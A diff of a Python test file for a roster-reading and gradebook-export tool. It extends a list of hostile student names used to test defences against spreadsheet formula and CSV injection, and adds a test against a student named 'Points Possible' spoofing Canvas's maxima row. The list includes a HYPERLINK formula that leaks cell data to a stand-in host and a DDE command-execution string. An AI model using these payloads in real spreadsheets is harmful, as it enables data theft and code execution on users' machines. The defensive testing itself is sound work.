@@ -75,7 +75,7 @@ def test_a_roster_gives_the_identities(tmp_path: Path):
 
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"grades")', "+cmd|' /C calc'!A0",
-           "-2+3", "@SUM(1)", 'ada",1,2\nmallory', "tab\there"]
+           "-2+3", "@SUM(1)", 'ada",1,2\nmallory', "tab\there", "x;y"]
 
 
 def test_hostile_names_stay_one_cell_of_text():
@@ -112,3 +112,13 @@ def test_a_roster_without_a_student_column_is_refused(tmp_path: Path):
     roster.write_text("name,email\nada,a@example.org\n", encoding="utf-8")
     with pytest.raises(ValueError, match="'student' column"):
         read_roster(roster)
+
+
+def test_a_student_named_points_possible_does_not_set_canvas_maxima():
+    grades = {"Points Possible": [result("2.1", 0.0)], "ada": [result("2.1", 3.0)]}
+    table = rows(gradebook_text(grades, "canvas"))
+    # Canvas reads any row whose first cell contains "Points Possible" as the maxima.
+    assert [r[0] for r in table if "Points Possible" in r[0]] == ["Points Possible"]
+    assert table[1][5] == "3"
+    student = next(r for r in table[2:] if r[3] == "Points Possible")
+    assert student[0] == "Points_Possible" and student[5] == "0"
